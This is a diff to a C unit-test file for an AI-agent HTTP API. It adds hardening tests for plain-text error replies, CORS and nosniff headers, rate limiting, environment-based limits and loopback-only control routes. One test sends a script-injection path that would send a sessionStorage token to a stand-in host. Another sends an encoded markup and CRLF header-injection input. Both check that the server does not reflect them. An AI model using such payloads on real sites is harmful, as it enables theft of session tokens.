@@ -5,8 +5,12 @@
  * the attestation route, settings from the environment, the start-up
  * warning, port fallback, 64 concurrent clients, and uploads: multipart
  * messages with files (also chunked, also 50 MiB with a bound on the peak
- * RSS), their limits, and Express's field semantics. The model is a fake
- * injected through agent_registry_config, so replies are predictable.
+ * RSS), their limits, and Express's field semantics. Then what hardening
+ * added: error replies as plain text or JSON with nosniff and CORS on every
+ * reply, the rate limit, and set/stop/delete refused to clients beyond
+ * loopback when there is no token (bound to a non-loopback address of this
+ * machine when it has one). The model is a fake injected through
+ * agent_registry_config, so replies are predictable.
  */
 #include <stdarg.h>
 #include <stddef.h>
@@ -18,7 +22,11 @@
 #include "teeliza/http.h"
 
 #include <arpa/inet.h>
+#include <errno.h>
+#include <ifaddrs.h>
+#include <net/if.h>
 #include <netinet/in.h>
+#include <poll.h>
 #include <pthread.h>
 #include <stdatomic.h>
 #include <stdio.h>
@@ -96,7 +104,12 @@ struct env {
 
 static const agent_tee_config tee_off = {0};
 
-static void env_start_full(struct env *e, const char *token, size_t max_body, size_t max_file)
+/*
+ * The API on host (an IPv4 address), with a token or none, a body limit, a
+ * file limit and a rate limit (0: the defaults).
+ */
+static void env_start_on(struct env *e, const char *host, const char *token, size_t max_body, size_t max_file,
+                         unsigned rate_limit)
 {
 	agent_registry_config rc;
 	agent_api_config ac;
@@ -114,21 +127,27 @@ static void env_start_full(struct env *e, const char *token, size_t max_body, si
 	assert_int_equal(agent_registry_new(&e->reg, &rc), TEELIZA_OK);
 	memset(&ac, 0, sizeof(ac));
 	ac.registry = e->reg;
-	ac.host = "127.0.0.1";
+	ac.host = host;
 	ac.port = 0;
 	ac.api_token = token;
 	ac.max_body = max_body;
 	ac.max_file = max_file;
+	ac.rate_limit = rate_limit;
 	ac.log = e->log;
 	assert_int_equal(agent_api_start(&e->api, &ac), TEELIZA_OK);
-	snprintf(e->base, sizeof(e->base), "http://127.0.0.1:%u", (unsigned)agent_api_port(e->api));
+	snprintf(e->base, sizeof(e->base), "http://%s:%u", host, (unsigned)agent_api_port(e->api));
 	assert_int_equal(agent_registry_set_public_url(e->reg, e->base), TEELIZA_OK);
 	assert_int_equal(agent_registry_start(&e->alice, e->reg, make_character("Alice Bot")), TEELIZA_OK);
 }
 
 static void env_start(struct env *e, const char *token, size_t max_body)
 {
-	env_start_full(e, token, max_body, 0);
+	env_start_on(e, "127.0.0.1", token, max_body, 0, 0);
+}
+
+static void env_start_full(struct env *e, const char *token, size_t max_body, size_t max_file)
+{
+	env_start_on(e, "127.0.0.1", token, max_body, max_file, 0);
 }
 
 static void env_stop(struct env *e)
@@ -735,6 +754,9 @@ static void test_warning_and_port_fallback(void **state)
 	ac.port_fallback = false;
 	assert_int_equal(agent_api_start(&a1, &ac), TEELIZA_OK);
 	assert_true(log_contains(log, "WARNING: the REST API listens on 0.0.0.0"));
+	assert_true(log_contains(log, "(set, stop, delete) is refused to clients other than loopback"));
+	assert_true(log_contains(log, "REST API limits: "));
+	assert_true(log_contains(log, ", 256 per client address, 30 s to send a request; rate limit: none"));
 	agent_api_stop(a1);
 	fclose(log);
 	log = tmpfile();
@@ -852,6 +874,378 @@ static void test_attestation_route(void **state)
 	resp_free(&r);
 	snprintf(path, sizeof(path), "/agents/Nobody/attestations/%s", qid);
 	expect_json(&e, "GET", path, NULL, 404, "{\"error\":\"Agent not found\"}");
+	env_stop(&e);
+}
+
+/* ---- hardening: error replies, headers on every reply, rate limit, loopback-only control ---- */
+
+/* Send text as is from src (NULL: any) to the API; the whole reply (the request asks to close), NUL-terminated. */
+static char *raw_request(const struct env *e, const char *src, const char *text)
+{
+	struct sockaddr_in a;
+	struct pollfd p;
+	char host[64], *out = NULL, *grown;
+	size_t len = 0;
+	ssize_t n;
+	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+
+	assert_true(fd >= 0);
+	if (src != NULL) {
+		memset(&a, 0, sizeof(a));
+		a.sin_family = AF_INET;
+		assert_int_equal(inet_pton(AF_INET, src, &a.sin_addr), 1);
+		assert_int_equal(bind(fd, (struct sockaddr *)&a, sizeof(a)), 0);
+	}
+	/* the API's address from e->base, "http://HOST:PORT" */
+	snprintf(host, sizeof(host), "%s", e->base + strlen("http://"));
+	assert_non_null(strchr(host, ':'));
+	*strchr(host, ':') = 0;
+	memset(&a, 0, sizeof(a));
+	a.sin_family = AF_INET;
+	a.sin_port = htons(agent_api_port(e->api));
+	assert_int_equal(inet_pton(AF_INET, host, &a.sin_addr), 1);
+	assert_int_equal(connect(fd, (struct sockaddr *)&a, sizeof(a)), 0);
+	assert_int_equal(send(fd, text, strlen(text), MSG_NOSIGNAL), (ssize_t)strlen(text));
+	for (;;) {
+		p.fd = fd;
+		p.events = POLLIN;
+		assert_int_equal(poll(&p, 1, 20000), 1);
+		grown = realloc(out, len + 4097);
+		assert_non_null(grown);
+		out = grown;
+		n = recv(fd, out + len, 4096, 0);
+		if (n <= 0)
+			break;
+		len += (size_t)n;
+	}
+	close(fd);
+	out[len] = 0;
+	return out;
+}
+
+static int status_of(const char *resp)
+{
+	assert_int_equal(strncmp(resp, "HTTP/1.1 ", 9), 0);
+	return atoi(resp + 9);
+}
+
+/* How often the header line (exact, case as sent) appears in the reply's headers. */
+static int header_count(const char *resp, const char *line)
+{
+	const char *end = strstr(resp, "\r\n\r\n"), *p = resp;
+	size_t n = strlen(line);
+	int count = 0;
+
+	assert_non_null(end);
+	while ((p = strstr(p, line)) != NULL && p < end) {
+		if (p > resp && p[-1] == '\n' && p[n] == '\r')
+			count++;
+		p += n;
+	}
+	return count;
+}
+
+static const char *body_of(const char *resp)
+{
+	const char *b = strstr(resp, "\r\n\r\n");
+
+	assert_non_null(b);
+	return b + 4;
+}
+
+/* Every reply: CORS as Eliza's cors() sends it, nosniff; and never HTML for an error. */
+static void expect_common(const char *resp)
+{
+	assert_int_equal(header_count(resp, "Access-Control-Allow-Origin: *"), 1);
+	assert_int_equal(header_count(resp, "X-Content-Type-Options: nosniff"), 1);
+	if (status_of(resp) >= 400) {
+		const char *ct = strstr(resp, "\r\nContent-Type: ");
+
+		assert_non_null(ct);
+		ct += 16;
+		assert_true(strncmp(ct, "text/plain", 10) == 0 || strncmp(ct, "application/json", 16) == 0);
+	}
+}
+
+static void test_not_found_is_plain_text(void **state)
+{
+	static const char script_path[] = "/<script>fetch('//x/'+sessionStorage.getItem('token'))</script>";
+	char req[512], want[256];
+	struct env e;
+	char *r;
+
+	(void)state;
+	env_start(&e, NULL, 0);
+	/* a path with markup, sent as is: 404 in plain text, the text Eliza shows */
+	snprintf(req, sizeof(req), "GET %s HTTP/1.1\r\nHost: t\r\nConnection: close\r\n\r\n", script_path);
+	r = raw_request(&e, NULL, req);
+	assert_int_equal(status_of(r), 404);
+	assert_int_equal(header_count(r, "Content-Type: text/plain; charset=utf-8"), 1);
+	assert_null(strstr(r, "text/html"));
+	expect_common(r);
+	snprintf(want, sizeof(want), "Cannot GET %s", script_path);
+	assert_string_equal(body_of(r), want);
+	free(r);
+	/* percent-encoded markup and control bytes: decoded for routing, shown as a client sends them */
+	r = raw_request(&e, NULL, "GET /%3Cimg%20src=x%3E%0d%0aX:%01 HTTP/1.1\r\nHost: t\r\nConnection: close\r\n\r\n");
+	assert_int_equal(status_of(r), 404);
+	assert_string_equal(body_of(r), "Cannot GET /<img%20src=x>%0D%0AX:%01");
+	expect_common(r);
+	free(r);
+	/* deeper than any route: the same 404 */
+	snprintf(req, sizeof(req), "GET /a/b/c/d/e/f/g/h%s HTTP/1.1\r\nHost: t\r\nConnection: close\r\n\r\n", script_path);
+	r = raw_request(&e, NULL, req);
+	assert_int_equal(status_of(r), 404);
+	assert_int_equal(header_count(r, "Content-Type: text/plain; charset=utf-8"), 1);
+	expect_common(r);
+	free(r);
+	env_stop(&e);
+
+	/* with a token, an unknown path reveals nothing before the token check, however deep */
+	env_start(&e, "s3cret-token", 0);
+	r = raw_request(&e, NULL, req);
+	assert_int_equal(status_of(r), 401);
+	assert_null(strstr(r, "script"));
+	expect_common(r);
+	free(r);
+	snprintf(req, sizeof(req),
+	         "GET /a/b/c/d/e/f/g/h%s HTTP/1.1\r\nHost: t\r\nAuthorization: Bearer s3cret-token\r\nConnection: close\r\n\r\n",
+	         script_path);
+	r = raw_request(&e, NULL, req);
+	assert_int_equal(status_of(r), 404);
+	assert_int_equal(header_count(r, "Content-Type: text/plain; charset=utf-8"), 1);
+	expect_common(r);
+	free(r);
+	/* agent not found (Eliza's res.send text): plain text too */
+	r = raw_request(&e, NULL,
+	                "POST /Nobody/message HTTP/1.1\r\nHost: t\r\nAuthorization: Bearer s3cret-token\r\n"
+	                "Content-Type: application/json\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}");
+	assert_int_equal(status_of(r), 404);
+	assert_string_equal(body_of(r), "Agent not found");
+	expect_common(r);
+	free(r);
+	env_stop(&e);
+}
+
+static void test_every_reply_has_cors(void **state)
+{
+	static const char auth[] = "Authorization: Bearer s3cret-token\r\n";
+	struct env e;
+	char req[1024];
+	char *r;
+	size_t i;
+	static const struct {
+		const char *method, *path, *headers, *body;
+		int status;
+	} cases[] = {
+		{"GET", "/hello", "", "", 200},
+		{"GET", "/agents", "", "", 401},
+		{"GET", "/agents", auth, "", 200},
+		{"GET", "/nope", auth, "", 404},
+		{"OPTIONS", "/agents", "", "", 204},
+		{"GET", "/agents/not-a-uuid", auth, "", 400},
+		{"POST", "/Alice%20Bot/message", auth, "{\"text\":\"fail\"}", 500},
+		{"POST", "/Alice%20Bot/message", auth, "{\"text\":", 400},
+		/* the server's own 413: the body is refused before the handler sees it */
+		{"POST", "/Alice%20Bot/message", auth, "{\"text\":\"0123456789012345678901234567890123456789\"}", 413},
+	};
+
+	(void)state;
+	env_start(&e, "s3cret-token", 32);
+	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		snprintf(req, sizeof(req),
+		         "%s %s HTTP/1.1\r\nHost: t\r\n%sContent-Type: application/json\r\nContent-Length: %zu\r\n"
+		         "Connection: close\r\n\r\n%s",
+		         cases[i].method, cases[i].path, cases[i].headers, strlen(cases[i].body), cases[i].body);
+		r = raw_request(&e, NULL, req);
+		if (status_of(r) != cases[i].status)
+			fail_msg("%s %s: %d, want %d", cases[i].method, cases[i].path, status_of(r), cases[i].status);
+		expect_common(r);
+		free(r);
+	}
+	/* HTML: Eliza's welcome page, and the dashboard (its own policy, framing forbidden beside it) */
+	r = raw_request(&e, NULL, "GET / HTTP/1.1\r\nHost: t\r\nConnection: close\r\n\r\n");
+	assert_int_equal(status_of(r), 200);
+	expect_common(r);
+	assert_non_null(strstr(r, "\r\nContent-Security-Policy: default-src 'none'; base-uri 'none'; form-action 'none'; "
+	                          "frame-ancestors 'none'\r\n"));
+	free(r);
+	r = raw_request(&e, NULL, "GET /dashboard HTTP/1.1\r\nHost: t\r\nConnection: close\r\n\r\n");
+	assert_int_equal(status_of(r), 200);
+	expect_common(r);
+	assert_non_null(strstr(r, "frame-ancestors 'none'"));
+	free(r);
+	env_stop(&e);
+}
+
+static void test_rate_limit(void **state)
+{
+	struct env e;
+	struct test_resp r;
+	char *raw;
+	int i, accepted = 0, refused = -1;
+	size_t count;
+	json_t *j;
+
+	(void)state;
+	env_start_on(&e, "127.0.0.1", NULL, 0, 0, 2);
+	atomic_store(&generate_calls, 0);
+	for (i = 0; i < 2; i++) {
+		r = request(&e, "POST", "/Alice%20Bot/message", "application/json", "{\"text\":\"hi\",\"roomId\":\"flood\"}",
+		            NULL);
+		assert_int_equal(r.status, 200);
+		accepted++;
+		resp_free(&r);
+	}
+	for (i = 0; i < 5 && refused < 0; i++) {
+		raw = raw_request(&e, NULL,
+		                  "POST /Alice%20Bot/message HTTP/1.1\r\nHost: t\r\nContent-Type: application/json\r\n"
+		                  "Content-Length: 31\r\nConnection: close\r\n\r\n{\"text\":\"hi\",\"roomId\":\"flood\"}");
+		if (status_of(raw) == 429) {
+			refused = i;
+			expect_common(raw);
+			assert_int_equal(header_count(raw, "Content-Type: application/json"), 1);
+			assert_non_null(strstr(raw, "\r\nRetry-After: "));
+			j = json_loads(body_of(raw), 0, NULL);
+			assert_non_null(strstr(json_string_value(json_object_get(j, "error")), "Too many requests"));
+			json_decref(j);
+		} else {
+			assert_int_equal(status_of(raw), 200);
+			accepted++;
+		}
+		free(raw);
+	}
+	assert_true(refused >= 0);
+	/* refused before the handler: no model call, nothing stored */
+	assert_int_equal(atomic_load(&generate_calls), accepted);
+	{
+		char room[AGENT_UUID_BUFSZ];
+
+		uuid_of(room, "flood");
+		assert_int_equal(agent_store_count_memories(e.store, &count, NULL, room, false), TEELIZA_OK);
+		assert_int_equal(count, 2 * (size_t)accepted);
+	}
+	/* another client address is not limited by this one */
+	raw = raw_request(&e, "127.0.0.2", "GET /hello HTTP/1.1\r\nHost: t\r\nConnection: close\r\n\r\n");
+	assert_int_equal(status_of(raw), 200);
+	free(raw);
+	env_stop(&e);
+}
+
+static void test_limits_env(void **state)
+{
+	agent_api_config c;
+
+	(void)state;
+	memset(&c, 0, sizeof(c));
+	assert_int_equal(agent_api_config_from_env(&c), TEELIZA_OK);
+	assert_int_equal(c.rate_limit, 0); /* off unless asked for, as in Eliza */
+	setenv("API_RATE_LIMIT", "120", 1);
+	setenv("API_MAX_CONNECTIONS", "1000", 1);
+	setenv("API_MAX_CONNECTIONS_PER_CLIENT", "8", 1);
+	setenv("API_REQUEST_TIMEOUT", "15", 1);
+	assert_int_equal(agent_api_config_from_env(&c), TEELIZA_OK);
+	assert_int_equal(c.rate_limit, 120);
+	assert_int_equal(c.max_connections, 1000);
+	assert_int_equal(c.max_per_client, 8);
+	assert_int_equal(c.request_timeout_s, 15);
+	setenv("API_RATE_LIMIT", "0", 1);
+	assert_int_equal(agent_api_config_from_env(&c), TEELIZA_OK);
+	assert_int_equal(c.rate_limit, 0);
+	setenv("API_RATE_LIMIT", "60/min", 1);
+	assert_int_equal(agent_api_config_from_env(&c), TEELIZA_ERR_CONFIG);
+	assert_non_null(strstr(teeliza_errmsg(), "API_RATE_LIMIT"));
+	setenv("API_RATE_LIMIT", "-1", 1);
+	assert_int_equal(agent_api_config_from_env(&c), TEELIZA_ERR_CONFIG);
+	setenv("API_RATE_LIMIT", "99999999999999999999", 1);
+	assert_int_equal(agent_api_config_from_env(&c), TEELIZA_ERR_CONFIG);
+	unsetenv("API_RATE_LIMIT");
+	setenv("API_REQUEST_TIMEOUT", "0", 1);
+	assert_int_equal(agent_api_config_from_env(&c), TEELIZA_ERR_CONFIG);
+	assert_non_null(strstr(teeliza_errmsg(), "API_REQUEST_TIMEOUT"));
+	unsetenv("API_REQUEST_TIMEOUT");
+	setenv("API_MAX_CONNECTIONS_PER_CLIENT", "lots", 1);
+	assert_int_equal(agent_api_config_from_env(&c), TEELIZA_ERR_CONFIG);
+	assert_non_null(strstr(teeliza_errmsg(), "API_MAX_CONNECTIONS_PER_CLIENT"));
+	unsetenv("API_MAX_CONNECTIONS_PER_CLIENT");
+	unsetenv("API_MAX_CONNECTIONS");
+}
+
+/* An IPv4 address of this machine that is not loopback, or false. */
+static bool non_loopback_address(char *out, size_t len)
+{
+	struct ifaddrs *all, *i;
+	bool found = false;
+
+	if (getifaddrs(&all) != 0)
+		return false;
+	for (i = all; i != NULL && !found; i = i->ifa_next) {
+		if (i->ifa_addr == NULL || i->ifa_addr->sa_family != AF_INET || (i->ifa_flags & IFF_UP) == 0 ||
+		    (i->ifa_flags & IFF_LOOPBACK) != 0)
+			continue;
+		found = inet_ntop(AF_INET, &((struct sockaddr_in *)(void *)i->ifa_addr)->sin_addr, out, (socklen_t)len) !=
+		        NULL;
+	}
+	freeifaddrs(all);
+	return found;
+}
+
+static void test_control_routes_loopback_only(void **state)
+{
+	char host[64], id[AGENT_UUID_BUFSZ], path[128], body[2048];
+	struct env e;
+	struct test_resp r;
+	json_t *j;
+
+	(void)state;
+	/* loopback without a token: allowed (test_stop_delete_set does the rest) */
+	env_start(&e, NULL, 0);
+	uuid_of(id, "Alice Bot");
+	snprintf(path, sizeof(path), "/agents/%s/stop", id);
+	expect_json(&e, "POST", path, NULL, 200, "{\"success\":true}");
+	env_stop(&e);
+
+	/*
+	 * A client beyond loopback: the API listens on an address of this
+	 * machine's network interface and is called on it, so the peer is that
+	 * address. Nothing leaves the machine. Without such an address, the check
+	 * itself is covered by test_http_server's test_local_addresses.
+	 */
+	if (!non_loopback_address(host, sizeof(host)))
+		skip();
+	env_start_on(&e, host, NULL, 0, 0, 0);
+	snprintf(body, sizeof(body), character_fmt, "Bob", "Bob", "Bob");
+	snprintf(path, sizeof(path), "/agents/%s/set", id);
+	r = request(&e, "POST", path, "application/json", body, NULL);
+	assert_int_equal(r.status, 403);
+	j = body_json(&r);
+	assert_non_null(strstr(json_string_value(json_object_get(j, "error")), "without API_TOKEN"));
+	json_decref(j);
+	resp_free(&r);
+	snprintf(path, sizeof(path), "/agents/%s/stop", id);
+	r = request(&e, "POST", path, NULL, NULL, NULL);
+	assert_int_equal(r.status, 403);
+	resp_free(&r);
+	snprintf(path, sizeof(path), "/agents/%s", id);
+	r = request(&e, "DELETE", path, NULL, NULL, NULL);
+	assert_int_equal(r.status, 403);
+	resp_free(&r);
+	assert_true(agent_runtime_running(e.alice));
+	assert_int_equal(agent_registry_count(e.reg), 1);
+	/* talking to the agent and reading stays open, as in Eliza */
+	expect_json(&e, "POST", "/Alice%20Bot/message", "{\"text\":\"hi\"}", 200,
+	            "[{\"user\":\"Alice Bot\",\"text\":\"echo: hi\",\"action\":\"NONE\"}]");
+	r = request(&e, "GET", "/agents", NULL, NULL, NULL);
+	assert_int_equal(r.status, 200);
+	resp_free(&r);
+	env_stop(&e);
+
+	/* with a token, the token decides, wherever the client is */
+	env_start_on(&e, host, "s3cret-token", 0, 0, 0);
+	snprintf(path, sizeof(path), "/agents/%s/stop", id);
+	r = request(&e, "POST", path, NULL, NULL, "Bearer s3cret-token");
+	assert_int_equal(r.status, 200);
+	resp_free(&r);
 	env_stop(&e);
 }
 
@@ -1364,6 +1758,11 @@ int main(void)
 		cmocka_unit_test(test_form_field_semantics),
 		cmocka_unit_test(test_upload_memory_bounded),
 		cmocka_unit_test(test_max_file_env),
+		cmocka_unit_test(test_not_found_is_plain_text),
+		cmocka_unit_test(test_every_reply_has_cors),
+		cmocka_unit_test(test_rate_limit),
+		cmocka_unit_test(test_limits_env),
+		cmocka_unit_test(test_control_routes_loopback_only),
 	};
 
 	/* TEE settings come from the registry config here, never from the caller's environment. */
